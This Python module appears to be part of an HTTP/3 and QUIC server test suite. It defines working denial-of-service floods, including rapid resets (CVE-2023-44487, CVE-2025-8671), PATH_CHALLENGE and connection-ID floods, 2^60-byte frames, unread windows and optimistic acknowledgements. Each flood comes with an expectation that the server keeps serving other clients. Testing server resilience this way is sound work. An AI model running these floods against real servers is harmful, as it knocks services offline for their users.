"""Floods of frames, streams and resets, and clients that do not read. A server may end such a
connection with any code, or bear it. Its memory and its time must not grow, and it must serve
others, which is looked at while the attack's connection is still there."""
import raw_h3 as h3
from attack import Attack, Expectation
from attack_transport import (
    CRYPTO, DATA_BLOCKED, MAX_DATA, MAX_STREAM_DATA, PATH_CHALLENGE, PING,
    RESET_STREAM, STOP_SENDING, STREAM_DATA_BLOCKED, STREAMS_BLOCKED, new_id, quic_frame)
from raw_connection import Outcome
from raw_h3 import GIANT, frame, settings, stream_frame, varint

# Bytes of frames in each packet.
PACKET = 1100
# Packets of a flood. The client sends some, and then takes what came back.
PACKETS, ROUND = 2000, 50

HOLDS = Expectation("another connection is served", lambda outcome: outcome.others_are_served)
# Nobody opens so many requests for nothing.
ENDS = Expectation("closes with H3_EXCESSIVE_LOAD", lambda outcome: outcome.others_are_served
                   and outcome.closed is not None and outcome.closed["code"] == 0x107)


def finish(connect, it, note=""):
    """Returns the outcome of a flood."""
    outcome = Outcome(it, None, it.link.closed is None, note)
    another = connect()
    outcome.others_are_served = another.probe()
    return outcome


def of_frames(make, packets=PACKETS, silent=False, **options):
    """Returns a flood of packets that a function makes of their numbers. A silent client sends no
    acknowledgements."""
    def run(connect):
        it = connect(**options)
        it.probe()
        it.link.quic.sends_no_acks = silent
        sent = 0
        while sent < packets and it.link.closed is None:
            it.link.send_frames(*(make(sent + number) for number in range(ROUND)))
            sent += ROUND
            it.link.step(0)
        it.link.settle(0.2)
        return finish(connect, it, f"{sent} packets, {it.link.datagrams[0]} came back")
    return run


def full(one):
    """Returns a packet's frames: one of them as often as there is room."""
    return lambda _: one * (PACKET // len(one))


def numbered(make):
    """Returns a packet of frames that a function makes of numbers, which never repeat."""
    def packet(number):
        made, each = b"", PACKET // len(make(1 << 29))
        for at in range(each):
            made += make(number * each + at)
        return made
    return packet


def pieces(start, step=2):
    """Returns a flood that sends one byte of each step of a POST's body: none can be delivered."""
    def run(connect):
        it = connect()
        it.probe()
        stream = it.new_request(it.head("POST", "/app/body") + varint(0) + varint(1 << 20))
        it.link.settle(0.05)
        window = it.link.quic._streams[stream].max_stream_data_remote
        offsets = range(min(start, window - 2), window - 1, step)
        sent, packet = 0, b""
        for offset in offsets:
            packet += stream_frame(stream, b"x", offset)
            if len(packet) > PACKET:
                it.link.send_frames(packet)
                sent, packet = sent + 1, b""
                if sent % ROUND == 0:
                    it.link.step(0)
                if it.link.closed is not None or sent == PACKETS:
                    break
        it.link.settle(0.2)
        return finish(connect, it, f"{sent} packets of pieces")
    return run


def of_streams(make, most=20_000, after=None):
    """Returns a flood of request streams. `make` sends one by the connection, and returns it."""
    def run(connect):
        it = connect()
        it.probe()
        opened = 0
        while opened < most and it.link.closed is None:
            if not it.may_open() and not it.wait(it.may_open, 1):
                break
            make(it)
            opened += 1
            if opened % 20 == 0:
                it.link.step(0)
            # The library keeps each stream that has not ended.
        it.link.settle(0.3)
        if after is not None:
            after(it)
        answered = sum(stream.status is not None for stream in it.streams.values())
        return finish(connect, it, f"{opened} requests, {answered} responses")
    return run


def later_reset(path):
    """Returns the function that begins a request and cancels it with its next packet."""
    def make(it):
        stream = it.get(path)
        it.link.quic.reset_stream(stream, 0x10c)
        it.link.quic.stop_stream(stream, 0x10c)
        it.link.step(0)
    return make


def reset(it):
    """Begins a request and cancels it in the same packet (CVE-2023-44487)."""
    stream = it.link.quic.get_next_available_stream_id()
    it.link.quic._get_or_create_stream_for_send(stream)
    data = it.head("GET", "/large.bin")
    it.link.quic._streams.pop(stream)
    it.link.quic._streams_queue = [kept for kept in it.link.quic._streams_queue
                                   if kept.stream_id != stream]
    it.link.send_frames(stream_frame(stream, data, 0, True)
                        + quic_frame(RESET_STREAM, stream, 0x10c, len(data))
                        + quic_frame(STOP_SENDING, stream, 0x10c))


def made_reset(it):
    """Sends a request that makes the server reset its stream (CVE-2025-8671)."""
    fields = it.fields("POST", "/app/body", ("content-length", "1"))
    data = frame(h3.HEADERS, h3.section(fields)) + frame(h3.DATA, b"12345")
    it.new_request(data, fin=False)


def growing(kind, payload, where="control"):
    """Returns a flood of one frame of 2^60 bytes: on the control stream, behind SETTINGS or as its
    first frame, or on a request, behind its head or as its first frame."""
    def run(connect):
        it = connect(control=None if where == "first of control" else settings())
        data = frame(kind, payload, length=GIANT)
        if where == "first of control":
            stream = it.open(h3.CONTROL, data)
        elif where == "control":
            stream = it.send(it.control, data)
        else:
            head = it.head("POST", "/app/body") if where == "request" else b""
            stream = it.new_request(head + data)
        sent, sender = 0, it.link.quic._streams[stream].sender
        while sent < 30_000_000 and it.link.closed is None and it.stream(stream).stopped is None:
            it.send(stream, b"x" * 100_000)
            sent += 100_000
            # The server's window can stay closed, which is as good as an error.
            if not it.wait(lambda: len(sender._buffer) < 400_000, 1):
                break
        return finish(connect, it, f"{sent} bytes; stream: {it.stream(stream)}")
    return run


def unread(max_data, max_stream_data, path="/large.bin"):
    """Returns a flood of requests by a client that opens no windows."""
    def run(connect):
        it = connect(max_data=max_data, max_stream_data=max_stream_data)
        it.link.quic.reads_nothing = True
        while it.may_open(2) and it.link.closed is None and len(it.streams) < 1000:
            it.stream(it.get(path))
            it.link.step(0)
        it.link.settle(0.5)
        received = sum(len(stream.data) for stream in it.streams.values())
        return finish(connect, it, f"{len(it.streams)} streams, {received} bytes came")
    return run


def not_acknowledged(connect):
    """Asks for much and acknowledges nothing."""
    it = connect(max_data=1 << 30, max_stream_data=1 << 30)
    it.probe()
    it.link.quic.sends_no_acks = True
    for _ in range(20):
        if it.may_open():
            it.get("/large.bin")
    it.link.settle(1)
    return finish(connect, it, f"{it.link.datagrams[0]} datagrams came")


def optimistic(connect):
    """Acknowledges packets before they arrive, to make the server send faster (RFC 9000 section
    21.4)."""
    it = connect(max_data=1 << 30, max_stream_data=1 << 30)
    it.probe()
    for _ in range(5):
        if it.may_open():
            it.get("/large.bin")
    for _ in range(200):
        if it.link.closed is not None:
            break
        it.link.step(0.01)
        received = it.link.quic._loss.spaces[-1].largest_received_packet
        ahead = received + 20
        it.link.send_frames(quic_frame(2, ahead, 0, 0, min(ahead, 30)))
    it.link.settle(0.3)
    outcome = finish(connect, it)
    return outcome


def slow_heads(connect):
    """Sends the heads of requests byte by byte on many connections, and ends none."""
    held = []
    for _ in range(20):
        it = connect()
        held.append(it)
        while it.may_open() and len(it.streams) < 50:
            it.stream(it.new_request(it.head()[:10]))
        it.link.step(0)
    for number in range(10):
        for it in held:
            for stream in it.streams:
                if it.link.closed is None and stream % 4 == 0:
                    it.link.quic.send_stream_data(stream, it.head()[10 + number:11 + number])
            it.link.step(0)
    return finish(connect, held[0], f"{sum(len(it.streams) for it in held)} streams")


def uni_streams(connect):
    """Opens as many unidirectional streams as the server allows, and sends 1 MB on each."""
    it = connect()
    it.probe()
    quic, opened = it.link.quic, 0
    while quic.get_next_available_stream_id(True) // 4 < quic._remote_max_streams_uni \
            and opened < 2000 and it.link.closed is None:
        it.open(h3.GREASE, b"x" * (1 << 20 if opened < 20 else 10))
        opened += 1
        it.link.step(0)
    it.link.settle(1)
    return finish(connect, it, f"{opened} streams")


def many_settings(connect):
    """Sends SETTINGS with 100,000 settings that nobody knows."""
    pairs = [(h3.GREASE + 0x1f * number, number) for number in range(100_000)]
    it = connect(control=settings(*pairs))
    it.link.settle(0.5)
    return finish(connect, it)


def control_frames(make, count=50_000):
    """Returns a flood of frames on the control stream that a function makes of numbers."""
    def run(connect):
        it = connect()
        it.probe()
        sent, many = 0, 500
        while sent < count and it.link.closed is None:
            it.send(it.control, b"".join(make(sent + number) for number in range(many)))
            sent += many
            sender = it.link.quic._streams[it.control].sender
            if not it.wait(lambda: len(sender._buffer) < 200_000, 1):
                break
        it.link.settle(0.2)
        return finish(connect, it, f"{sent} frames")
    return run


def request_frames(data, parts=300):
    """Returns a flood of bytes behind the head of a POST."""
    def run(connect):
        it = connect()
        it.probe()
        stream, sent = it.new_request(it.head("POST", "/app/body")), 0
        while sent < parts and it.link.closed is None and it.stream(stream).stopped is None:
            it.send(stream, data)
            sent += 1
            sender = it.link.quic._streams[stream].sender
            if not it.wait(lambda: len(sender._buffer) < 200_000, 1):
                break
        it.link.settle(0.2)
        return finish(connect, it, f"{sent * len(data)} bytes; stream: {it.stream(stream)}")
    return run


FLOODS = [
    ("PING", "9000 19.2", of_frames(full(quic_frame(PING)))),
    ("PADDING", "9000 19.1", of_frames(full(b"\0"))),
    ("DATA_BLOCKED", "9000 19.12", of_frames(full(quic_frame(DATA_BLOCKED, 5)))),
    ("STREAMS_BLOCKED", "9000 19.14", of_frames(full(quic_frame(STREAMS_BLOCKED, 5)))),
    ("STREAM_DATA_BLOCKED", "9000 19.13", of_frames(full(quic_frame(STREAM_DATA_BLOCKED, 2, 5)))),
    ("MAX_DATA", "9000 19.9", of_frames(numbered(
        lambda number: quic_frame(MAX_DATA, (1 << 30) + number)))),
    ("MAX_STREAM_DATA of ended streams", "9000 19.10", of_frames(numbered(
        lambda number: quic_frame(MAX_STREAM_DATA, 0, (1 << 30) + number)))),
    ("PATH_CHALLENGE that is never acknowledged", "9000 8.2, CVE-2023-49295", of_frames(numbered(
        lambda number: quic_frame(PATH_CHALLENGE, rest=number.to_bytes(8, "big"))), silent=True)),
    ("connection IDs that retire the former", "9000 5.1.2, CVE-2024-22189", of_frames(numbered(
        lambda number: new_id(number + 20, number + 20)), silent=True)),
    ("empty STREAM frames", "9000 19.8", of_frames(full(stream_frame(0, b"")))),
    ("a body in pieces that do not join", "9000 2.2", pieces(200)),
    ("pieces of one byte far apart", "9000 2.2", pieces(200, step=64)),
    ("CRYPTO in pieces that do not join", "9000 7.5", of_frames(numbered(
        lambda number: quic_frame(CRYPTO, 2 * (number % 2000) + 2, 1, rest=b"x")))),
    ("requests that are never completed", "9114 10.5", of_streams(
        lambda it: it.new_request(it.head()[:-5]), most=1000)),
    ("POSTs that are never completed", "9114 10.5", of_streams(
        lambda it: it.new_request(it.head("POST", "/app/body") + frame(0, b"x")), most=1000)),
    ("slow heads", "9114 10.5", slow_heads),
    ("unidirectional streams", "9114 10.5", uni_streams),
    ("100,000 settings", "9114 10.5", many_settings),
    ("priorities of streams to come", "9218 7.2", control_frames(
        lambda number: frame(h3.PRIORITY_UPDATE, varint(4 * number + 400) + b"u=1"))),
    ("priorities of one stream", "9218 7.2", control_frames(
        lambda number: frame(h3.PRIORITY_UPDATE, varint(400) + b"u=%d" % (number % 8)))),
    ("priorities of 15 KB", "9218 7.2", control_frames(
        lambda number: frame(h3.PRIORITY_UPDATE, varint(400) + b"a" * 15_000), count=1000)),
    ("MAX_PUSH_ID", "9114 10.5",
     control_frames(lambda number: frame(h3.MAX_PUSH_ID, varint(number)))),
    ("empty unknown frames on the control stream", "9114 10.5",
     control_frames(lambda _: frame(h3.GREASE))),
    ("empty unknown frames on a request", "9114 10.5",
     request_frames(frame(h3.GREASE) * 2000, 100)),
    ("empty DATA", "9114 10.5", request_frames(frame(h3.DATA) * 2000, 100)),
    ("DATA of one byte", "9114 10.5", request_frames(frame(h3.DATA, b"x") * 2000, 50)),
    ("SETTINGS of 2^60 bytes", "9114 10.5", growing(h3.SETTINGS, b"", "first of control")),
    ("GOAWAY of 2^60 bytes", "9114 7.1", growing(h3.GOAWAY, b"")),
    ("PRIORITY_UPDATE of 2^60 bytes", "9218 7.2", growing(h3.PRIORITY_UPDATE, b"\0u=1")),
    ("an unknown frame of 2^60 bytes on the control stream", "9114 10.5", growing(h3.GREASE, b"")),
    ("an unknown frame of 2^60 bytes on a request", "9114 10.5",
     growing(h3.GREASE, b"", "request")),
    ("HEADERS of 2^60 bytes", "9114 4.2.2, 10.5", growing(h3.HEADERS, b"\0\0", "first")),
    ("trailers of 2^60 bytes", "9114 4.2.2, 10.5", growing(h3.HEADERS, b"\0\0", "request")),
    ("DATA of 2^60 bytes", "9114 10.5", growing(h3.DATA, b"", "request")),
    ("streams without a window", "9000 4.1", unread(1 << 30, 1)),
    ("streams with windows of 64 KB", "9000 4.1", unread(1 << 30, 1 << 16)),
    ("a connection with a window of 64 KB", "9000 4.1", unread(1 << 16, 1 << 20)),
    ("data that is never acknowledged", "9002 7", not_acknowledged),
]

ATTACKS = [
    *(Attack(name, section, HOLDS, run) for name, section, run in FLOODS),
    Attack("rapid resets", "9114 10.5, CVE-2023-44487", ENDS, of_streams(reset)),
    Attack("rapid resets of files", "9114 10.5, CVE-2023-44487", ENDS,
           of_streams(later_reset("/large.bin"), most=5000)),
    Attack("rapid resets of an application", "9114 10.5, CVE-2023-44487", ENDS,
           of_streams(later_reset("/app/wait"), most=5000)),
    Attack("requests that the server must reset", "9114 10.5, CVE-2025-8671", ENDS,
           of_streams(made_reset, most=5000)),
    Attack("optimistic acknowledgements", "9000 21.4, 13.1",
           # The client's socket can be too full for the CONNECTION_CLOSE. A reset follows then.
           Expectation("closes with 0xa PROTOCOL_VIOLATION, or a stateless reset",
                       lambda outcome: outcome.closed is not None and outcome.closed["by"] ==
                       "server" and outcome.closed["code"] in (0xa, 0x1, None)), optimistic),
]
